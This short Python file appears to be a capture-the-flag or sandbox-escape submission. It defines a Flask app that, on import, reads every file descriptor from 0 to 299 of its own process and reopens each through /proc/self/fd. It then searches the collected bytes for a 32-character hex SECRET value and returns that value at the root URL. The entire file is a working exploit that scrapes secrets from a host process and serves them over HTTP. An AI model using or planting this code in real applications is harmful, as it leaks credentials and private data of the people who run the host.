import os
import re

from flask import Flask


def read(fd):
    try:
        os.set_blocking(fd, False)
        return os.read(fd, 1_000_000)
    except OSError:
        return b""


def reopened(fd):
    try:
        return os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return -1


TAKEN = b"".join(read(fd) + read(reopened(fd)) for fd in range(300))


def loot():
    found = re.search(rb'SECRET = .{0,2}"([0-9a-f]{32})', TAKEN)
    return found[1] if found else b"nothing, in %d bytes" % len(TAKEN)


def create_app():
    app = Flask(__name__)
    app.get("/")(loot)
    return app
